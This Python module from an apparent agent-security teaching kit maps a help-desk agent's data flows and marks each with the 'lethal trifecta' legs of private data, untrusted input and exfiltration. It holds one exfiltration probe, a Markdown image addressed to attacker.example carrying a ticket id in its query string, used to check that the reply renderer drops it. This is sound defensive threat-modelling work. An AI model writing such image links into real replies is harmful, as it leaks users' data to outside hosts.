"""The help desk's data flows, read from the kit's own wiring, with the trifecta legs each one carries.

A flow is one way data moves between the agent and something else. Each is built from an object an
earlier page made, never typed as a list:
- the agent's tools: the lab's ToolRegistry and the gate's Policy (which tools a task reaches, which
  write and are parked for approval), and the trust label Agent.context_parts gives each tool's result;
- the agent's memory (SessionMemory.parts) and its reply, tested against sinks.markdown.render_reply;
- the MCP tools of the supply-chain page: its Contracts, desk_policy, and the label as_context gives;
- the sinks of the output-handling page (its scenario table's kinds) and the tenant boundaries of the
  tenancy page (platform.BUGS: each mistake that would open one).
Three legs, after Simon Willison's "lethal trifecta" (2025-06-16): PRIVATE (the flow brings someone's
private data), UNTRUSTED (it brings text that someone outside wrote), EXFIL (what the model writes
into it reaches someone outside). A Tool declares only whether it writes; EFFECTS adds whose data it
returns and where its arguments go, and the tests check each entry against the tool's behaviour.
Left out: flows the kit does not wire (a real mail server, a browser, the provider's own systems).
"""

from __future__ import annotations

from typing import Literal

from pydantic import BaseModel, ConfigDict

from evidencedesk.agent.scenarios import lab
from evidencedesk.agent.state import AgentState
from evidencedesk.sinks.markdown import IMAGE_HOSTS, render_reply
from evidencedesk.sinks.scenarios import load_rows as sink_rows
from evidencedesk.supplychain.privilege import CONTRACTS, as_context, desk_policy
from evidencedesk.tenancy.platform import BUGS
from evidencedesk.tools import ToolResult

PRIVATE, UNTRUSTED, EXFIL = "private", "untrusted", "exfil"
LEGS = (PRIVATE, UNTRUSTED, EXFIL)
SHORT = {PRIVATE: "P", UNTRUSTED: "U", EXFIL: "X"}  # one letter per leg, for tables and diagrams
# Trust boundaries: whose side of the line each element is on.
DESK, CUSTOMER, OUTSIDE, SUPPLIER, TENANT = "help desk", "customer", "outside", "supplier", "other tenant"
# An image the reply asks the chat window to fetch, with data in its query string (the sinks page).
PROBE = "![s](https://attacker.example/p.png?d=T-601)"


class Effect(BaseModel):
    """What a tool or source does that a Tool does not declare: element (str, the store or server
    at its far end), boundary (str, whose side that is on), private (bool: it returns someone's
    private data), leaves (bool: what the model writes into it reaches someone outside).

    Example: EFFECTS["send_email_draft"].leaves -> True
    """

    model_config = ConfigDict(frozen=True, strict=True, extra="forbid")
    element: str
    boundary: str
    private: bool = False
    leaves: bool = False


EFFECTS = {
    "goal": Effect(element="customer", boundary=CUSTOMER),
    "get_ticket": Effect(element="tickets", boundary=DESK, private=True),
    "lookup_document": Effect(element="documents", boundary=DESK),
    "send_email_draft": Effect(element="any address", boundary=OUTSIDE,
                               leaves=True),
    "memory": Effect(element="memory", boundary=DESK, private=True),
    "desk__get_ticket": Effect(element="desk server", boundary=DESK,
                               private=True),
    "desk__send_reply": Effect(element="ticket reader", boundary=CUSTOMER,
                               leaves=True),
    "shipping__track_parcel": Effect(element="tracker", boundary=SUPPLIER,
                                     leaves=True),
    "books__search": Effect(element="catalogue", boundary=DESK),
    "crm__search": Effect(element="crm server", boundary=DESK, private=True),
}


class Flow(BaseModel):
    """One data flow: id (str, "<group>:<name>"), group ("agent", "mcp", "sinks" or "tenancy"),
    element and boundary (the far end, see Effect), carries (str, what moves), legs (frozenset of
    LEGS), gated (bool: parked for a person's approval before it happens), width (str: for a way
    out, how much text the model can put into it).

    Example: agent_flows()[0].id -> "agent:goal"
    """

    model_config = ConfigDict(frozen=True, strict=True, extra="forbid")
    id: str
    group: Literal["agent", "mcp", "sinks", "tenancy"]
    element: str
    boundary: str
    carries: str
    legs: frozenset[str] = frozenset()
    gated: bool = False
    width: str = ""


def width(args: type[BaseModel]) -> str:
    """How much text a model can write into a tool's arguments, from its pydantic schema.

    Args: args (an ArgsModel class). Returns "text <n>" (the summed max_length of string fields with
    no pattern) or "pattern" when every string field has one. Example: width(TrackArgs) -> "pattern"
    """
    fields = args.model_json_schema()["properties"].values()
    free = sum(f.get("maxLength", 0) for f in fields if f.get("type") == "string" and "pattern" not in f)
    return f"text {free}" if free else "pattern"


def _legs(effect: Effect, trust: str) -> frozenset[str]:
    """The legs of one flow: PRIVATE and EXFIL from its effect, UNTRUSTED from its context label."""
    has = {PRIVATE: effect.private, UNTRUSTED: trust == "untrusted", EXFIL: effect.leaves}
    return frozenset(leg for leg, present in has.items() if present)


def context_labels(task: str = "reply", grant: bool = True) -> dict[str, str]:
    """The trust label the agent's prompt gives each source: the goal, memory and every tool's result.

    Built by Agent.context_parts on a state holding one observation per tool and a memory holding
    one note. Returns {"goal": "untrusted", "memory": ..., "<tool>": ...}. Example: context_labels()["goal"]
    """
    agent, _ = lab(task=task, grant=grant)
    state = AgentState(run_id="threats", user_id=agent.session.user_id, task=task, goal="Label each part.")
    for name in sorted(agent.gate.registry.names()):
        state, _ = state.observe(True, name, "{}")
    assert agent.memory is not None and agent.memory.write("t-601-status", "open", "tool:get_ticket:o1").ok
    labels = {}
    for part in agent.context_parts(state):
        if part.kind in ("goal", "memory"):
            labels[part.kind] = part.trust
        elif part.kind == "observation":
            labels[part.source.split(":")[1]] = part.trust
    return labels


def image_leaves(image_hosts: frozenset[str] | None) -> bool:
    """True when PROBE's image would be fetched: no allowlist (None), or render_reply keeps it.

    Example: image_leaves(None) -> True; image_leaves(IMAGE_HOSTS) -> False
    """
    return image_hosts is None or not render_reply(PROBE, image_hosts).dropped


def agent_flows(task: str = "reply", grant: bool = True,
                image_hosts: frozenset[str] | None = IMAGE_HOSTS,
                without: tuple[str, ...] = ()) -> tuple[Flow, ...]:
    """The flows of the agent of the agent-loop page (scenarios.lab), one task.

    Args: task ("triage" or "reply"); grant (bool, the write grant);
    image_hosts (frozenset: the chat window renders the reply through
    render_reply with these hosts; None: it fetches every image); without
    (tool names to leave out, to try a smaller tool set). A tool is in when
    the gate's policy lets the task use it; a write without the grant is out,
    since the gate refuses it; a write with the grant is gated (parked).
    Example: [f.id for f in agent_flows("triage")]
    """
    agent, _ = lab(task=task, grant=grant)
    gate, labels = agent.gate, context_labels(task, grant)
    flows = [Flow(id="agent:goal", group="agent", element="customer",
                  boundary=CUSTOMER, carries="the customer's request",
                  legs=_legs(EFFECTS["goal"], labels["goal"]))]
    names = gate.policy.tools_for(task) & gate.registry.names()
    for name in sorted(names - set(without)):
        tool, effect = gate.registry.get(name), EFFECTS[name]
        if tool.writes and not gate.policy.may_write(task):
            continue
        flows.append(Flow(
            id=f"agent:{name}", group="agent", element=effect.element,
            boundary=effect.boundary, carries=tool.description,
            legs=_legs(effect, labels[name]), gated=tool.writes,
            width=width(tool.args) if effect.leaves else ""))
    flows.append(Flow(id="agent:memory", group="agent", element="memory",
                      boundary=DESK, carries="notes kept for this user",
                      legs=_legs(EFFECTS["memory"], labels["memory"])))
    leaves = image_leaves(image_hosts)  # any host's images, or the list's
    flows.append(Flow(id="agent:reply", group="agent", element="chat window",
                      boundary=CUSTOMER, carries="the reply, as Markdown",
                      legs=frozenset({EXFIL} if leaves else ()),
                      width="image URL" if leaves else ""))
    return tuple(flows)


def mcp_flows(task: str = "orders", grant: bool = False, without: tuple[str, ...] = ()) -> tuple[Flow, ...]:
    """The flows of the MCP desk of the supply-chain page for one task, from CONTRACTS and desk_policy.

    Args: task ("orders", "reply" or "accounts"); grant (bool, the write grant for "reply"); without
    (namespaced tool names to leave out). A tool with no contract (fx) is never a flow: no task
    reaches it. Example: [f.id for f in mcp_flows("accounts")] -> ["mcp:crm__search"]
    """
    policy, flows = desk_policy(grant_reply=grant), []
    for contract in sorted(CONTRACTS, key=lambda c: c.name):
        name = contract.name
        if name not in policy.tools_for(task) or name in without or (contract.writes and not policy.may_write(task)):
            continue
        source = f"mcp:{contract.server}:{contract.tool}"
        trust = as_context(ToolResult.success({"text": "", "source": source})).trust
        effect = EFFECTS[name]
        flows.append(Flow(id=f"mcp:{name}", group="mcp", element=effect.element, boundary=effect.boundary,
                          carries=f"{contract.server} {contract.tool}", legs=_legs(effect, trust),
                          gated=contract.writes, width=width(contract.args) if effect.leaves else ""))
    return tuple(flows)


def sink_flows() -> tuple[Flow, ...]:
    """One flow per sink of the output-handling page's scenario table: model output into that sink."""
    kinds = sorted({row["kind"] for row in sink_rows()})
    seen_by = {"html": CUSTOMER, "markdown": CUSTOMER}
    return tuple(Flow(id=f"sinks:{kind}", group="sinks", element=kind, boundary=seen_by.get(kind, DESK),
                      carries="model output") for kind in kinds)


def tenant_flows() -> tuple[Flow, ...]:
    """One flow per tenant boundary of the tenancy page: what would carry data across it (platform.BUGS)."""
    return tuple(Flow(id=f"tenancy:{bug}", group="tenancy", element="another tenant", boundary=TENANT,
                      carries=f"closed unless {text}") for bug, text in BUGS.items())


def all_flows() -> tuple[Flow, ...]:
    """Every flow the register may name: the agent's reply task with the grant, every MCP task with the
    grant, every sink and every tenant boundary; each id once. Example: len(all_flows())
    """
    flows: dict[str, Flow] = {f.id: f for f in agent_flows("reply", True)}
    for task in sorted(desk_policy().allow):
        flows.update({f.id: f for f in mcp_flows(task, True)})
    flows.update({f.id: f for f in (*sink_flows(), *tenant_flows())})
    return tuple(flows.values())
